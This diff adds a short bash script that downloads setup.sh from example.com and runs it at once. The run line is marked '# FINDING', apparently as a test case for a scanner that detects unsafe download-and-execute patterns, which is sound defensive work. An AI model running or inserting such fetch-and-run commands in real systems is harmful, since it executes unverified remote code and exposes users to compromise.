@@ -1,0 +1,3 @@
+#!/bin/bash
+wget https://example.com/setup.sh
+bash setup.sh  # FINDING
